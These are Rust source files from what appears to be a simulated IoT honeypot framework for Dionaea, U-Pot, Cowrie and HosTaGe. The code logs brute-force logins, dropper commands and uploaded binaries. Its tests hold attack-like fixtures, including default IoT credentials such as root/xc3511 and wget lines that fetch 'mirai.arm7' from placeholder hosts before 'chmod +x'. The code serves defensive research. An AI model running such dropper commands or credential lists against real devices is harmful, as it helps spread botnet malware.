                                return_code: ConnectReturnCode::Accepted,
                            }
                            .encode(),
                        ),
                        Packet::Publish { topic, .. } => self.log.log(
                            now,
                            protocol,
                            peer.addr,
                            peer.port,
                            EventKind::DataWrite { target: topic },
                        ),
                        Packet::Subscribe { packet_id, topics } => {
                            for (t, _) in &topics {
                                self.log.log(
                                    now,
                                    protocol,
                                    peer.addr,
                                    peer.port,
                                    EventKind::DataRead { target: t.clone() },
                                );
                            }
                            ctx.tcp_send(
                                conn,
                                Packet::SubAck {
                                    packet_id,
                                    return_codes: vec![0; topics.len().max(1)],
                                }
                                .encode(),
                            );
                        }
                        _ => {}
                    }
                    if self.conns.get(&conn).map_or(true, |(_, _, b)| b.is_empty()) {
                        break;
                    }
                }
            }
            Protocol::Smb => {
                if let Ok(msg) = SmbMessage::decode(data) {
                    let kind = if msg.command == smb_cmd::TRANS2 {
                        EventKind::ExploitSignature { name: "SMB Trans2 anomaly".into() }
                    } else {
                        EventKind::Datagram { len: data.len() }
                    };
                    self.log.log(now, protocol, peer.addr, peer.port, kind);
                    if msg.command == smb_cmd::NEGOTIATE {
                        let resp = SmbMessage {
                            command: smb_cmd::NEGOTIATE,
                            status: 0,
                            flags2: msg.flags2,
                            mid: msg.mid,
                            data: vec![2, 0],
                        };
                        ctx.tcp_send(conn, resp.encode());
                    }
                    if looks_like_binary(&msg.data) {
                        self.log.log(
                            now,
                            protocol,
                            peer.addr,
                            peer.port,
                            EventKind::PayloadDrop { payload: msg.data, url: None },
                        );
                    }
                }
            }
            _ => {}
        }
    }

    fn on_tcp_closed(&mut self, _ctx: &mut NetCtx<'_>, conn: ConnToken) {
        if self.conns.remove(&conn).is_some() {
            self.gate.release();
        }
        self.ftp.remove(&conn);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use ofh_net::{ip, SimNet, SimNetConfig, SimTime};

    struct FtpBot {
        dst: SockAddr,
        payload: Vec<u8>,
        stage: usize,
    }

    impl Agent for FtpBot {
        fn on_boot(&mut self, ctx: &mut NetCtx<'_>) {
            ctx.tcp_connect(self.dst);
        }
        fn on_tcp_data(&mut self, ctx: &mut NetCtx<'_>, conn: ConnToken, data: &Payload) {
            let text = String::from_utf8_lossy(data).into_owned();
            match self.stage {
                0 if text.starts_with("220") => {
                    self.stage = 1;
                    ctx.tcp_send(conn, Command::new("USER", Some("admin")).render());
                }
                1 if text.starts_with("331") => {
                    self.stage = 2;
                    ctx.tcp_send(conn, Command::new("PASS", Some("admin")).render());
                }
                2 if text.starts_with("230") => {
                    self.stage = 3;
                    ctx.tcp_send(conn, Command::new("STOR", Some("mozi.m")).render());
                }
                3 if text.starts_with("150") => {
                    self.stage = 4;
                    ctx.tcp_send(conn, self.payload.clone());
                }
                _ => {}
            }
        }
    }

    #[test]
    fn ftp_bruteforce_and_malware_upload() {
        let mut net = SimNet::new(SimNetConfig::default());
        let haddr = ip(16, 1, 0, 12);
        let hid = net.attach(haddr, Box::new(DionaeaHoneypot::new()));
        let sample = ofh_intel::MalwareSample::synthesize(ofh_intel::MalwareFamily::Mozi, 0);
        net.attach(
            ip(16, 1, 0, 97),
            Box::new(FtpBot {
                dst: SockAddr::new(haddr, 21),
                payload: sample.payload.clone(),
                stage: 0,
            }),
        );
        net.run_until(SimTime(120_000));
        let h = net.agent_downcast::<DionaeaHoneypot>(hid).unwrap();
        // Login logged.
        assert!(h.log.events.iter().any(|e| matches!(
            &e.kind,
            EventKind::LoginAttempt { username, success: true, .. } if username == "admin"
        )));
        // Uploaded binary captured, hash identifiable as Mozi.
        let dropped = h
            .log
            .events
            .iter()
            .find_map(|e| match &e.kind {
                EventKind::PayloadDrop { payload, .. } if !payload.is_empty() => Some(payload),
                _ => None,
            })
            .expect("payload captured");
        let reg = ofh_intel::MalwareRegistry::standard(1);
        assert_eq!(
            reg.identify(dropped).unwrap().family,
            ofh_intel::MalwareFamily::Mozi
        );
    }

    #[test]
    fn smb_and_http_surfaces() {
        struct Smb {
            dst: SockAddr,
        }
        impl Agent for Smb {
            fn on_boot(&mut self, ctx: &mut NetCtx<'_>) {
                ctx.tcp_connect(self.dst);
            }
            fn on_tcp_established(&mut self, ctx: &mut NetCtx<'_>, conn: ConnToken) {
                ctx.tcp_send(
                    conn,
                    SmbMessage {
                        command: smb_cmd::TRANS2,
                        status: 0,
                        flags2: 0,
                        mid: 7,
                        data: vec![],
                    }
                    .encode(),
                );
            }
        }
        let mut net = SimNet::new(SimNetConfig::default());
        let haddr = ip(16, 1, 0, 12);
        let hid = net.attach(haddr, Box::new(DionaeaHoneypot::new()));
        net.attach(ip(16, 1, 0, 96), Box::new(Smb { dst: SockAddr::new(haddr, 445) }));
        net.run_until(SimTime(60_000));
        let h = net.agent_downcast::<DionaeaHoneypot>(hid).unwrap();
        assert!(h
            .log
            .events
            .iter()
            .any(|e| matches!(&e.kind, EventKind::ExploitSignature { .. })));
    }
}
