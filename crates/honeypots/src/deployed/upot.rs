//! U-Pot — the UPnP honeypot framework.
//!
//! Deployed with the "Belkin Wemo smart switch" image (Table 7). U-Pot
//! received a large number of discovery requests followed by UDP flood DoS —
//! more than 80% of its traffic was part of DoS attacks (§5.1.3). The agent
//! answers `ssdp:discover` with the Wemo root-device description (via a
//! limited UPnP stack, mirroring the paper's GUPnP-based low-interaction
//! image) and logs every datagram.

use ofh_net::Payload;
use ofh_net::{Agent, NetCtx, SockAddr};
use ofh_wire::ssdp::{DeviceDescription, SsdpMessage};
use ofh_wire::{ports, Protocol};

use crate::events::{EventKind, EventLog};

/// The U-Pot honeypot agent.
pub struct UPotHoneypot {
    pub log: EventLog,
}

impl Default for UPotHoneypot {
    fn default() -> Self {
        Self::new()
    }
}

impl UPotHoneypot {
    pub fn new() -> Self {
        UPotHoneypot {
            log: EventLog::new("U-Pot"),
        }
    }

    /// U-Pot is UDP-only (SSDP): there are no connections to shed, but the
    /// uniform accessor keeps fleet-wide shed accounting simple.
    pub fn shed_connections(&self) -> u64 {
        0
    }

    fn wemo() -> DeviceDescription {
        DeviceDescription {
            friendly_name: "Wemo Switch".into(),
            manufacturer: "Belkin International Inc.".into(),
            model_name: "Socket".into(),
            model_description: "Belkin Plugin Socket 1.0".into(),
            model_number: "1.0".into(),
        }
    }
}

impl Agent for UPotHoneypot {
    fn on_udp(&mut self, ctx: &mut NetCtx<'_>, local_port: u16, peer: SockAddr, payload: &Payload) {
        if local_port != ports::SSDP {
            return;
        }
        let now = ctx.now();
        let text = String::from_utf8_lossy(payload);
        match SsdpMessage::parse(&text) {
            Ok(msg) if msg.is_msearch() => {
                self.log.log(now, Protocol::Upnp, peer.addr, peer.port, EventKind::Discovery);
                let resp = SsdpMessage::discovery_response(
                    "Unspecified, UPnP/1.0, Unspecified",
                    "Socket-1_0-221450K0102F2E",
                    "http://10.22.22.1:49153/setup.xml",
                );
                let body = format!("{}{}", resp.render(), Self::wemo().render());
                ctx.udp_send(local_port, peer, body.into_bytes());
            }
            _ => {
                // Flood datagrams / garbage: logged, never answered
                // (responding would amplify the attacker's flood).
                self.log.log(
                    now,
                    Protocol::Upnp,
                    peer.addr,
                    peer.port,
                    EventKind::Datagram { len: payload.len() },
                );
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use ofh_net::{ip, SimNet, SimNetConfig, SimTime};
    use ofh_wire::ssdp::msearch_all;

    struct Flood {
        dst: SockAddr,
        discoveries: u32,
        junk: u32,
        reply: Option<String>,
    }

    impl Agent for Flood {
        fn on_boot(&mut self, ctx: &mut NetCtx<'_>) {
            for _ in 0..self.discoveries {
                ctx.udp_send(42_000, self.dst, msearch_all().into_bytes());
            }
            for i in 0..self.junk {
                ctx.udp_send(42_000, self.dst, vec![i as u8; 64]);
            }
        }
        fn on_udp(&mut self, _c: &mut NetCtx<'_>, _p: u16, _peer: SockAddr, payload: &Payload) {
            self.reply = Some(String::from_utf8_lossy(payload).into_owned());
        }
    }

    #[test]
    fn discovery_answered_with_wemo_description() {
        let mut net = SimNet::new(SimNetConfig::default());
        let haddr = ip(16, 1, 0, 14);
        let hid = net.attach(haddr, Box::new(UPotHoneypot::new()));
        let fid = net.attach(
            ip(16, 1, 0, 93),
            Box::new(Flood {
                dst: SockAddr::new(haddr, 1900),
                discoveries: 1,
                junk: 0,
                reply: None,
            }),
        );
        net.run_until(SimTime(60_000));
        let reply = net.agent_downcast::<Flood>(fid).unwrap().reply.clone().unwrap();
        assert!(reply.contains("Belkin"));
        assert!(reply.contains("upnp:rootdevice"));
        let h = net.agent_downcast::<UPotHoneypot>(hid).unwrap();
        assert!(h.log.events.iter().any(|e| matches!(e.kind, EventKind::Discovery)));
    }

    #[test]
    fn flood_datagrams_logged_not_answered() {
        let mut net = SimNet::new(SimNetConfig::default());
        let haddr = ip(16, 1, 0, 14);
        let hid = net.attach(haddr, Box::new(UPotHoneypot::new()));
        let fid = net.attach(
            ip(16, 1, 0, 93),
            Box::new(Flood {
                dst: SockAddr::new(haddr, 1900),
                discoveries: 0,
                junk: 50,
                reply: None,
            }),
        );
        net.run_until(SimTime(60_000));
        assert!(net.agent_downcast::<Flood>(fid).unwrap().reply.is_none());
        let h = net.agent_downcast::<UPotHoneypot>(hid).unwrap();
        let floods = h
            .log
            .events
            .iter()
            .filter(|e| matches!(e.kind, EventKind::Datagram { .. }))
            .count();
        assert_eq!(floods, 50);
    }
}
