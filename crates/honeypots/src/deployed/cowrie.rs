//! Cowrie — the SSH/Telnet medium-interaction honeypot.
//!
//! Deployed as "SSH server with IoT banner" (Table 7). Cowrie's signature
//! move is *letting brute-forcers in* after a few attempts so their shell
//! session can be recorded: credentials feed Table 12, `wget`/`curl` dropper
//! commands and the binaries that follow feed Table 13, and §5.1.1's 113
//! Mirai variants were all captured this way.

use ofh_net::Payload;
use ofh_net::{Agent, ConnToken, NetCtx, SockAddr, TcpDecision};
use ofh_wire::telnet::visible_text;
use ofh_wire::{ports, Protocol};
use std::collections::HashMap;

use crate::deployed::common::{
    drain_lines, extract_url, looks_like_binary, ConnGate, LoginMachine, LoginStep,
};
use crate::events::{EventKind, EventLog};

/// The Cowrie honeypot agent.
pub struct CowrieHoneypot {
    pub log: EventLog,
    ssh: LoginMachine,
    telnet: LoginMachine,
    /// Per-connection protocol (fixed at accept) and line buffer.
    conns: HashMap<ConnToken, (Protocol, SockAddr, Vec<u8>)>,
    gate: ConnGate,
}

impl Default for CowrieHoneypot {
    fn default() -> Self {
        Self::new()
    }
}

impl CowrieHoneypot {
    pub fn new() -> Self {
        let mut ssh = LoginMachine::new(3);
        ssh.accept_creds.push(("root".into(), "root".into()));
        ssh.accept_creds.push(("admin".into(), "admin".into()));
        let mut telnet = LoginMachine::new(3);
        telnet.accept_creds.push(("admin".into(), "admin".into()));
        telnet.accept_creds.push(("root".into(), "xc3511".into()));
        CowrieHoneypot {
            log: EventLog::new("Cowrie"),
            ssh,
            telnet,
            conns: HashMap::new(),
            gate: ConnGate::default(),
        }
    }

    /// Connections refused because the gate was full (flood shedding).
    pub fn shed_connections(&self) -> u64 {
        self.gate.shed()
    }

    fn machine(&mut self, protocol: Protocol) -> &mut LoginMachine {
        match protocol {
            Protocol::Ssh => &mut self.ssh,
            _ => &mut self.telnet,
        }
    }
}

impl Agent for CowrieHoneypot {
    fn on_tcp_open(
        &mut self,
        ctx: &mut NetCtx<'_>,
        conn: ConnToken,
        local_port: u16,
        peer: SockAddr,
    ) -> TcpDecision {
        let protocol = match local_port {
            ports::SSH => Protocol::Ssh,
            ports::TELNET | ports::TELNET_ALT => Protocol::Telnet,
            _ => return TcpDecision::Refuse,
        };
        if !self.gate.try_admit() {
            return TcpDecision::Refuse;
        }
        self.conns.insert(conn, (protocol, peer, Vec::new()));
        self.machine(protocol).open(conn);
        self.log.log(ctx.now(), protocol, peer.addr, peer.port, EventKind::Connection);
        let banner: Vec<u8> = match protocol {
            // Cowrie's IoT-flavoured SSH identification.
            Protocol::Ssh => b"SSH-2.0-dropbear_2014.66\r\n".to_vec(),
            // Cowrie's characteristic Telnet banner (also its Table 6
            // fingerprint when found in the wild): IAC DO NAWS + login.
            _ => b"\xff\xfd\x1flogin: ".to_vec(),
        };
        TcpDecision::accept_with(banner)
    }

    fn on_tcp_data(&mut self, ctx: &mut NetCtx<'_>, conn: ConnToken, data: &Payload) {
        let Some((protocol, peer, _)) = self.conns.get(&conn).map(|(p, s, _)| (*p, *s, ())) else {
            return;
        };
        // Binary payloads (echo-loader style dropper bodies).
        if looks_like_binary(data) {
            self.log.log(
                ctx.now(),
                protocol,
                peer.addr,
                peer.port,
                EventKind::PayloadDrop {
                    payload: data.to_vec(),
                    url: None,
                },
            );
            return;
        }
        let cleaned = if protocol == Protocol::Telnet {
            visible_text(data)
        } else {
            data.to_vec()
        };
        let buf = &mut self.conns.get_mut(&conn).unwrap().2;
        buf.extend_from_slice(&cleaned);
        for line in drain_lines(buf) {
            if line.is_empty() {
                continue;
            }
            // Simplified-SSH auth framing: "AUTH <user> <pass>".
            if protocol == Protocol::Ssh {
                if let Some(rest) = line.strip_prefix("AUTH ") {
                    let mut it = rest.splitn(2, ' ');
                    let user = it.next().unwrap_or("").to_string();
                    let pass = it.next().unwrap_or("").to_string();
                    let m = self.machine(protocol);
                    m.feed(conn, &user); // advances to password state
                    let step = m.feed(conn, &pass);
                    if let LoginStep::Attempt { success, .. } = step {
                        self.log.log(
                            ctx.now(),
                            protocol,
                            peer.addr,
                            peer.port,
                            EventKind::LoginAttempt {
                                username: user,
                                password: pass,
                                success,
                            },
                        );
                        ctx.tcp_send(conn, if success { "OK\n" } else { "DENIED\n" });
                    }
                    continue;
                }
                if line.starts_with("SSH-") {
                    // Acknowledge the client identification so the peer's
                    // state machine proceeds (stand-in for KEXINIT).
                    ctx.tcp_send(conn, "KEXINIT\n");
                    continue;
                }
            }
            match self.machine(protocol).feed(conn, &line) {
                LoginStep::Prompt(p) => ctx.tcp_send(conn, p),
                LoginStep::Attempt {
                    username,
                    password,
                    success,
                } => {
                    self.log.log(
                        ctx.now(),
                        protocol,
                        peer.addr,
                        peer.port,
                        EventKind::LoginAttempt {
                            username,
                            password,
                            success,
                        },
                    );
                    ctx.tcp_send(
                        conn,
                        if success {
                            "\r\nBusyBox v1.19.3 (2013-11-01 10:10:26 CST) built-in shell (ash)\r\n# "
                        } else {
                            "\r\nLogin incorrect\r\nlogin: "
                        },
                    );
                }
                LoginStep::Command(cmd) => {
                    let url = extract_url(&cmd);
                    self.log.log(
                        ctx.now(),
                        protocol,
                        peer.addr,
                        peer.port,
                        EventKind::Command { line: cmd.clone() },
                    );
                    if let Some(url) = url {
                        // The dropper fetch: the binary arrives as a later
                        // raw write; the URL itself is logged now.
                        self.log.log(
                            ctx.now(),
                            protocol,
                            peer.addr,
                            peer.port,
                            EventKind::PayloadDrop {
                                payload: Vec::new(),
                                url: Some(url),
                            },
                        );
                    }
                    ctx.tcp_send(conn, "# ");
                }
            }
        }
    }

    fn on_tcp_closed(&mut self, _ctx: &mut NetCtx<'_>, conn: ConnToken) {
        if let Some((protocol, _, _)) = self.conns.remove(&conn) {
            self.gate.release();
            self.machine(protocol).close(conn);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use ofh_net::{ip, SimNet, SimNetConfig, SimTime};

    struct Bot {
        dst: SockAddr,
        script: Vec<&'static [u8]>,
        step: usize,
    }

    impl Agent for Bot {
        fn on_boot(&mut self, ctx: &mut NetCtx<'_>) {
            ctx.tcp_connect(self.dst);
        }
        fn on_tcp_data(&mut self, ctx: &mut NetCtx<'_>, conn: ConnToken, _data: &Payload) {
            if self.step < self.script.len() {
                let msg = self.script[self.step].to_vec();
                self.step += 1;
                ctx.tcp_send(conn, msg);
            }
        }
    }

    fn run(port: u16, script: Vec<&'static [u8]>) -> EventLog {
        let mut net = SimNet::new(SimNetConfig::default());
        let haddr = ip(16, 1, 0, 10);
        let hid = net.attach(haddr, Box::new(CowrieHoneypot::new()));
        net.attach(
            ip(16, 1, 0, 99),
            Box::new(Bot {
                dst: SockAddr::new(haddr, port),
                script,
                step: 0,
            }),
        );
        net.run_until(SimTime(120_000));
        let h = net.agent_downcast_mut::<CowrieHoneypot>(hid).unwrap();
        std::mem::take(&mut h.log)
    }

    #[test]
    fn telnet_bruteforce_is_logged_and_eventually_accepted() {
        let log = run(
            23,
            vec![
                b"root\n",
                b"wrongpass\n",
                b"admin\n",
                b"admin\n", // known-good pair
                b"wget http://16.3.0.1/mirai.arm7\n",
            ],
        );
        let attempts: Vec<_> = log
            .events
            .iter()
            .filter_map(|e| match &e.kind {
                EventKind::LoginAttempt {
                    username,
                    password,
                    success,
                } => Some((username.clone(), password.clone(), *success)),
                _ => None,
            })
            .collect();
        assert_eq!(attempts.len(), 2);
        assert_eq!(attempts[0], ("root".into(), "wrongpass".into(), false));
        assert_eq!(attempts[1], ("admin".into(), "admin".into(), true));
        assert!(log.events.iter().any(|e| matches!(
            &e.kind,
            EventKind::PayloadDrop { url: Some(u), .. } if u == "http://16.3.0.1/mirai.arm7"
        )));
        assert!(log
            .events
            .iter()
            .any(|e| matches!(&e.kind, EventKind::Command { line } if line.contains("wget"))));
    }

    #[test]
    fn ssh_auth_framing() {
        let log = run(
            22,
            vec![b"SSH-2.0-attacker\n", b"AUTH admin admin\n", b"uname -a\n"],
        );
        assert!(log.events.iter().any(|e| matches!(
            &e.kind,
            EventKind::LoginAttempt { username, success: true, .. } if username == "admin"
        )));
        assert!(log
            .events
            .iter()
            .any(|e| e.protocol == Protocol::Ssh
                && matches!(&e.kind, EventKind::Command { line } if line == "uname -a")));
    }

    #[test]
    fn binary_payload_captured() {
        let log = run(23, vec![b"\x7fELF\x01\x01\x01\x00MIRAIBYTES"]);
        assert!(log.events.iter().any(|e| matches!(
            &e.kind,
            EventKind::PayloadDrop { payload, .. } if looks_like_binary(payload)
        )));
    }

    #[test]
    fn connection_always_logged() {
        let log = run(23, vec![]);
        assert!(matches!(log.events[0].kind, EventKind::Connection));
        assert_eq!(log.events[0].honeypot, "Cowrie");
    }
}
