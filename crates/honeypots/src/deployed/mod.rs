//! The six deployed honeypots of Fig. 1 / Table 7.
//!
//! | honeypot | simulated device profile | protocols |
//! |---|---|---|
//! | HosTaGe  | Arduino board with IoT protocols | Telnet, MQTT, AMQP, CoAP, SSH, HTTP, SMB |
//! | U-Pot    | Belkin Wemo smart switch | UPnP |
//! | Conpot   | Siemens S7 PLC | SSH, Telnet, S7, HTTP (+ Modbus, §5.1.4) |
//! | ThingPot | Philips Hue Bridge | XMPP, HTTP |
//! | Cowrie   | SSH server with IoT banner | SSH, Telnet |
//! | Dionaea  | Arduino IoT device with frontend | HTTP, MQTT, FTP, SMB |
//!
//! Every agent logs raw [`AttackEvent`](crate::events::AttackEvent)s; nothing
//! is classified at capture time.
//!
//! **SSH substitution** (see DESIGN.md): the SSH *transport* (KEX, cipher
//! negotiation) adds nothing to the study — the paper's data is credentials,
//! commands, and dropped binaries. After the standard identification-string
//! exchange, our simulated SSH speaks a plaintext line protocol
//! (`AUTH <user> <pass>` → `OK`/`DENIED`, then command lines), preserving
//! exactly the observables the honeypots log.

pub mod common;
pub mod conpot;
pub mod cowrie;
pub mod dionaea;
pub mod hostage;
pub mod thingpot;
pub mod upot;

pub use conpot::ConpotHoneypot;
pub use cowrie::CowrieHoneypot;
pub use dionaea::DionaeaHoneypot;
pub use hostage::HosTaGeHoneypot;
pub use thingpot::ThingPotHoneypot;
pub use upot::UPotHoneypot;

/// Identifies a deployed honeypot (Table 7 row group).
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum HoneypotKind {
    HosTaGe,
    UPot,
    Conpot,
    ThingPot,
    Cowrie,
    Dionaea,
}

impl HoneypotKind {
    pub const ALL: [HoneypotKind; 6] = [
        HoneypotKind::HosTaGe,
        HoneypotKind::UPot,
        HoneypotKind::Conpot,
        HoneypotKind::ThingPot,
        HoneypotKind::Cowrie,
        HoneypotKind::Dionaea,
    ];

    pub const fn name(self) -> &'static str {
        match self {
            HoneypotKind::HosTaGe => "HosTaGe",
            HoneypotKind::UPot => "U-Pot",
            HoneypotKind::Conpot => "Conpot",
            HoneypotKind::ThingPot => "ThingPot",
            HoneypotKind::Cowrie => "Cowrie",
            HoneypotKind::Dionaea => "Dionaea",
        }
    }

    /// The device profile the honeypot simulates (Table 7 column 2).
    pub const fn device_profile(self) -> &'static str {
        match self {
            HoneypotKind::HosTaGe => "Arduino Board with IoT Protocols",
            HoneypotKind::UPot => "Belkin Wemo smart switch",
            HoneypotKind::Conpot => "Siemens S7 PLC",
            HoneypotKind::ThingPot => "Philips Hue Bridge",
            HoneypotKind::Cowrie => "SSH Server with IoT banner",
            HoneypotKind::Dionaea => "Arduino IoT device with frontend",
        }
    }
}

impl std::fmt::Display for HoneypotKind {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.name())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn names_match_table7() {
        assert_eq!(HoneypotKind::ALL.len(), 6);
        assert_eq!(HoneypotKind::UPot.name(), "U-Pot");
        assert_eq!(
            HoneypotKind::Conpot.device_profile(),
            "Siemens S7 PLC"
        );
    }
}
