//! Shared building blocks for the deployed honeypots.

use std::collections::HashMap;

use ofh_net::ConnToken;

/// Outcome of feeding a line into a login state machine.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum LoginStep {
    /// Send this prompt and wait.
    Prompt(&'static str),
    /// A full credential pair arrived.
    Attempt {
        username: String,
        password: String,
        success: bool,
    },
    /// The session is in the (fake) shell; the line is a command.
    Command(String),
}

/// A username/password login state machine shared by the Telnet- and
/// SSH-style services.
///
/// `accept_after` mimics Cowrie's behaviour of eventually accepting a
/// brute-forcing attacker so the interesting part (shell commands, droppers)
/// can be observed: the Nth attempt on a connection always succeeds.
#[derive(Debug, Default)]
pub struct LoginMachine {
    /// Accept any credentials on the Nth attempt (0 = never).
    pub accept_after: u32,
    /// Credentials accepted immediately.
    pub accept_creds: Vec<(String, String)>,
    state: HashMap<ConnToken, LoginState>,
}

#[derive(Debug, Clone)]
enum LoginState {
    AwaitUser { attempts: u32 },
    AwaitPass { username: String, attempts: u32 },
    Shell,
}

impl LoginMachine {
    pub fn new(accept_after: u32) -> Self {
        LoginMachine {
            accept_after,
            accept_creds: Vec::new(),
            state: HashMap::new(),
        }
    }

    pub fn open(&mut self, conn: ConnToken) {
        self.state.insert(conn, LoginState::AwaitUser { attempts: 0 });
    }

    pub fn close(&mut self, conn: ConnToken) {
        self.state.remove(&conn);
    }

    pub fn in_shell(&self, conn: ConnToken) -> bool {
        matches!(self.state.get(&conn), Some(LoginState::Shell))
    }

    /// Feed one text line; returns what happened.
    pub fn feed(&mut self, conn: ConnToken, line: &str) -> LoginStep {
        let state = self
            .state
            .entry(conn)
            .or_insert(LoginState::AwaitUser { attempts: 0 })
            .clone();
        match state {
            LoginState::AwaitUser { attempts } => {
                self.state.insert(
                    conn,
                    LoginState::AwaitPass {
                        username: line.to_string(),
                        attempts,
                    },
                );
                LoginStep::Prompt("Password: ")
            }
            LoginState::AwaitPass { username, attempts } => {
                let attempts = attempts + 1;
                let success = self
                    .accept_creds
                    .iter()
                    .any(|(u, p)| *u == username && *p == line)
                    || (self.accept_after > 0 && attempts >= self.accept_after);
                self.state.insert(
                    conn,
                    if success {
                        LoginState::Shell
                    } else {
                        LoginState::AwaitUser { attempts }
                    },
                );
                LoginStep::Attempt {
                    username,
                    password: line.to_string(),
                    success,
                }
            }
            LoginState::Shell => LoginStep::Command(line.to_string()),
        }
    }
}

/// Connection-flood shedding for a deployed honeypot.
///
/// A real deployment sits behind finite file descriptors and worker pools; a
/// scanning burst or a bot flood must degrade gracefully (refuse the excess)
/// rather than grow per-connection state without bound. Every deployed
/// honeypot admits connections through a gate: over the cap, the connection
/// is refused and counted, exactly like an exhausted `accept()` backlog.
#[derive(Debug)]
pub struct ConnGate {
    live: u64,
    max_live: u64,
    shed: u64,
}

impl Default for ConnGate {
    fn default() -> Self {
        ConnGate::new(1_024)
    }
}

impl ConnGate {
    pub fn new(max_live: u64) -> Self {
        ConnGate {
            live: 0,
            max_live,
            shed: 0,
        }
    }

    /// Try to admit one connection: `true` admits (and counts it live),
    /// `false` means the caller should refuse it.
    pub fn try_admit(&mut self) -> bool {
        if self.live >= self.max_live {
            self.shed += 1;
            ofh_obs::live::shed(1);
            return false;
        }
        self.live += 1;
        true
    }

    /// An admitted connection ended (closed, reset, or torn down).
    pub fn release(&mut self) {
        self.live = self.live.saturating_sub(1);
    }

    /// Connections currently admitted.
    pub fn live(&self) -> u64 {
        self.live
    }

    /// Connections refused because the gate was full.
    pub fn shed(&self) -> u64 {
        self.shed
    }
}

/// Split a raw buffer into complete lines (by `\n`), returning leftover bytes.
/// Honeypots accumulate TCP data and feed complete lines to their state
/// machines.
pub fn drain_lines(buf: &mut Vec<u8>) -> Vec<String> {
    let mut lines = Vec::new();
    while let Some(pos) = buf.iter().position(|&b| b == b'\n') {
        let line: Vec<u8> = buf.drain(..=pos).collect();
        let text = String::from_utf8_lossy(&line)
            .trim_end_matches(['\r', '\n'])
            .trim_start_matches('\0')
            .to_string();
        lines.push(text);
    }
    lines
}

/// Extract a URL from a shell command (`wget http://… ; chmod +x …`) — the
/// paper traces malware sources through exactly these dropper URLs (§5.3).
pub fn extract_url(command: &str) -> Option<String> {
    for word in command.split_whitespace() {
        if word.starts_with("http://") || word.starts_with("https://") || word.starts_with("ftp://")
        {
            return Some(word.trim_end_matches(';').to_string());
        }
    }
    None
}

/// Whether a blob looks like a dropped binary (ELF magic) — what the paper's
/// pcap analysis pulls out and hashes for Table 13.
pub fn looks_like_binary(data: &[u8]) -> bool {
    data.len() >= 4 && data[..4] == [0x7F, b'E', b'L', b'F']
}

#[cfg(test)]
mod tests {
    use super::*;

    fn conn(n: u64) -> ConnToken {
        ConnToken(n)
    }

    #[test]
    fn conn_gate_sheds_over_cap_and_recovers_on_release() {
        let mut g = ConnGate::new(2);
        assert!(g.try_admit());
        assert!(g.try_admit());
        assert_eq!(g.live(), 2);
        // Over the cap: refused and counted, live unchanged.
        assert!(!g.try_admit());
        assert!(!g.try_admit());
        assert_eq!(g.shed(), 2);
        assert_eq!(g.live(), 2);
        // A release frees a slot; the next admit succeeds again.
        g.release();
        assert!(g.try_admit());
        assert_eq!(g.live(), 2);
        assert_eq!(g.shed(), 2);
        // Release never underflows.
        g.release();
        g.release();
        g.release();
        assert_eq!(g.live(), 0);
    }

    #[test]
    fn login_machine_accepts_after_n() {
        let mut m = LoginMachine::new(2);
        m.open(conn(1));
        assert_eq!(m.feed(conn(1), "root"), LoginStep::Prompt("Password: "));
        let first = m.feed(conn(1), "wrong");
        assert_eq!(
            first,
            LoginStep::Attempt {
                username: "root".into(),
                password: "wrong".into(),
                success: false
            }
        );
        m.feed(conn(1), "root");
        let second = m.feed(conn(1), "alsowrong");
        assert!(matches!(second, LoginStep::Attempt { success: true, .. }));
        assert!(m.in_shell(conn(1)));
        assert_eq!(
            m.feed(conn(1), "wget http://x/bot"),
            LoginStep::Command("wget http://x/bot".into())
        );
    }

    #[test]
    fn login_machine_accepts_known_creds_immediately() {
        let mut m = LoginMachine::new(0);
        m.accept_creds.push(("admin".into(), "admin".into()));
        m.open(conn(2));
        m.feed(conn(2), "admin");
        assert!(matches!(
            m.feed(conn(2), "admin"),
            LoginStep::Attempt { success: true, .. }
        ));
        // accept_after = 0 means wrong creds never succeed.
        m.open(conn(3));
        for _ in 0..5 {
            m.feed(conn(3), "x");
            assert!(matches!(
                m.feed(conn(3), "y"),
                LoginStep::Attempt { success: false, .. }
            ));
        }
    }

    #[test]
    fn sessions_are_independent() {
        let mut m = LoginMachine::new(1);
        m.open(conn(1));
        m.open(conn(2));
        m.feed(conn(1), "a");
        assert!(!m.in_shell(conn(2)));
        m.close(conn(1));
        assert!(!m.in_shell(conn(1)));
    }

    #[test]
    fn line_draining() {
        let mut buf = b"USER admin\r\nPASS ad".to_vec();
        let lines = drain_lines(&mut buf);
        assert_eq!(lines, vec!["USER admin".to_string()]);
        assert_eq!(buf, b"PASS ad");
        buf.extend_from_slice(b"min\n");
        assert_eq!(drain_lines(&mut buf), vec!["PASS admin".to_string()]);
        assert!(buf.is_empty());
    }

    #[test]
    fn url_extraction() {
        assert_eq!(
            extract_url("wget http://1.2.3.4/mirai.arm7; chmod +x mirai.arm7"),
            Some("http://1.2.3.4/mirai.arm7".to_string())
        );
        assert_eq!(extract_url("ls -la"), None);
    }

    #[test]
    fn binary_sniffing() {
        assert!(looks_like_binary(&[0x7F, b'E', b'L', b'F', 0, 0]));
        assert!(!looks_like_binary(b"#!/bin/sh"));
        assert!(!looks_like_binary(b"\x7fEL"));
    }
}
