//! HosTaGe — the mobile multi-protocol low-interaction honeypot.
//!
//! Deployed as an "Arduino board with IoT protocols" (Table 7): Telnet,
//! MQTT, AMQP, CoAP, SSH, HTTP and SMB on one host. HosTaGe receives the
//! most attack events of any honeypot in Table 7 (73,763), and its CoAP
//! smoke-sensor profile is the reflection-attack magnet of §5.1.3.

use std::collections::HashMap;

use ofh_net::Payload;
use ofh_net::{Agent, ConnToken, NetCtx, SockAddr, TcpDecision};
use ofh_wire::amqp::{frame_type, ConnectionStart, Frame, PROTOCOL_HEADER};
use ofh_wire::coap::{render_link_format, Code, LinkEntry, Message, MsgType};
use ofh_wire::mqtt::{ConnectReturnCode, Packet};
use ofh_wire::smb::{command as smb_cmd, SmbMessage};
use ofh_wire::telnet::visible_text;
use ofh_wire::{http, ports, Protocol};

use crate::deployed::common::{
    drain_lines, extract_url, looks_like_binary, ConnGate, LoginMachine, LoginStep,
};
use crate::events::{EventKind, EventLog};

